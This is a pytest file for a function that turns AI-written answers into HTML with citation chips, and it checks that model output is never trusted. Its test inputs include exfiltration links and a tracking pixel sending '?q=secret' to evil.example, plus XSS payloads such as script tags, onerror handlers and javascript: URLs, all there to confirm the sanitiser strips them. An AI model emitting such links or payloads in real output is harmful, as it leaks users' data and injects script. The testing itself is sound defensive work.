"""Answers as HTML: what a model writes is never trusted."""

import re

import pytest

from assistants.claims import Asked
from assistants.presenting import Source
from assistants.rendering import answer_html

SOURCES = [
    Source(
        n=1,
        cited=True,
        title='Sick <b>"leave"',
        href="/w/acme/documents/1/?start=0",
        url="https://wiki.acme.example/sick",
    ),
    Source(n=2, cited=True, withheld=True),
    Source(n=3, cited=True, gone=True, stale=True),
]


def html(content):
    return answer_html(content, SOURCES, "a1")


def test_markers_become_chips_that_open_the_passage():
    shown = html("So it is [1], and again [1].")
    assert shown.count('<a class="cite" data-n="1"') == 2
    assert 'id="cite-a1-1-1"' in shown
    assert 'id="cite-a1-1-2"' in shown
    assert 'href="/w/acme/documents/1/?start=0"' in shown
    assert "<b>" not in shown


PASSAGE = (
    "# Sick leave\n\nThis page was renewed in spring. You may request up to 240 hours of advanced sick leave.\n\n"
    "Tell your manager before ten on the first day.\n"
)


def test_a_chip_brings_the_sentence_that_its_claim_rests_on():
    sources = [Source(n=1, cited=True, title="Sick", href="/w/acme/documents/1/", text=PASSAGE)]
    content = (
        "Up to **240 hours** of leave can be advanced [1]. Before ten, tell your manager. [1]\n\nNobody knows [1]."
    )
    shown = answer_html(content, sources, "a1")
    said = re.findall(r'data-n="1" id="cite-a1-1-(\d)"[^>]*?data-sentence="([^"]+)"', shown)
    assert said == [
        ("1", "You may request up to 240 hours of advanced sick leave."),
        ("2", "Tell your manager before ten on the first day."),
    ]


@pytest.mark.parametrize(
    ("questions", "told"),
    [
        (("How many hours of sick leave?",), "Has “hours”, “sick”, “leave”"),
        (("Policies on advancing?",), "Has “advancing”"),
        (("Which holidays are there?",), "Close in meaning"),
        (("And managers?", "How much sick leave?"), "Has “managers”, “sick”, “leave”"),
        (("@sick-leave who may?",), "Close in meaning"),
    ],
)
def test_why_a_passage_was_found_is_told_in_the_questions_words(questions, told):
    assert Asked(*questions).why("Absence", PASSAGE) == told


def test_a_short_word_is_found_as_it_stands_or_in_its_plural():
    assert Asked("Which day?").why("", "Thirty days.") == "Has “day”"
    assert Asked("Which days?").why("", "From Monday to Friday, dayless.") == "Close in meaning"


def test_what_was_read_for_its_age_says_so():
    assert Asked("Sick leave?", newest=True).why("Sick leave", PASSAGE) == "One of the newest"


def test_withheld_and_deleted_sources_have_chips_that_lead_nowhere():
    shown = html("Hidden [2], gone [3], unknown [4].")
    assert shown.count("data-withheld") == 2
    assert "<a " not in shown
    assert "unknown [4]" in shown


@pytest.mark.parametrize("content", ["`[1]`", "```\n[1]\n```", "    [1]"])
def test_there_are_no_chips_in_code(content):
    assert "cite" not in html(content)


@pytest.mark.parametrize(
    "content",
    [
        "[click](https://evil.example/?q=secret)",
        "<https://evil.example/?q=secret>",
        "[1](https://evil.example/?q=secret)",
        "[click](//evil.example/?q=secret)",
        "[click](/w/../..//evil.example/?q=secret)",
        "[x][1]\n\n[1]: https://evil.example/?q=secret",
        "[x](https://wiki.acme.example/sick?q=secret)",
        "[x](https://wiki.acme.example.evil.example/sick)",
        "[x](mailto:a@evil.example?body=secret)",
    ],
)
def test_a_link_out_of_the_sources_is_text_with_its_address_in_sight(content):
    shown = html(content)
    assert "href" not in shown.replace('href="/w/acme/documents/1/', "")
    assert "evil" in shown or "q=secret" in shown


def test_links_to_sources_and_within_the_product_are_live(settings):
    settings.BASE_URL = "https://atrium.acme.example"
    shown = html(
        "[a](https://wiki.acme.example/sick#days) [b](/w/acme/data/) [c](https://atrium.acme.example/w/acme/people/)"
    )
    assert shown.count("<a href=") == 3
    assert html("[d](https://atrium.acme.example/accounts/logout/)").count("<a href=") == 0


@pytest.mark.parametrize(
    "content",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "![pixel](https://evil.example/p.gif?q=secret)",
        "[x](javascript:alert(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        '<a href="/w/" onclick="x()">x</a>',
        "<style>*{display:none}</style>",
        "```html\n<script>alert(1)</script>\n```",
        "|a|\n|-|\n|<iframe src=x>|",
        "# <svg onload=x>",
    ],
)
def test_nothing_of_a_model_is_live_html(content):
    shown = html(content)
    for tag in ("<script", "<img", "<style", "<iframe", "<svg", "<a ", 'href="javascript', 'href="data'):
        assert tag not in shown


def test_markdown_is_rendered():
    shown = html("# Title\n\n- **bold** and `code`\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n```python\nx = 1\n```")
    for piece in (
        "<h2>Title</h2>",
        "<strong>bold</strong>",
        "<code>code</code>",
        "<td>1</td>",
        'data-language="python"',
    ):
        assert piece in shown
